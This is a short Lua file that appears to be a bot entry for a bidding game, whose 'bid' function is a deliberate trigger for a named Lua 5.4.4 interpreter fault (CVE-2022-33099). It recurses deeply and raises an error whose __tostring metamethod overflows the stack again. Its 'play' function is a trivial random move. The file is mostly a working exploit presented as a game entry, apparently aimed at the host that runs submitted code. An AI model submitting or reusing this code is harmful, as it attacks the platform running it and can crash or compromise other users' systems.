-- Fills the stack while its error is made a text: liblua 5.4.4 has a fault
-- there (CVE-2022-33099).
return {
  bid = function(_, view)
    local class = {}
    local function deep(n)
      if n == 0 then error(setmetatable({}, class)) end
      return 1 + deep(n - 1)
    end
    class.__tostring = function() return deep(190000) end
    return deep(199000)
  end,
  play = function(_, view) return view:random() end,
}
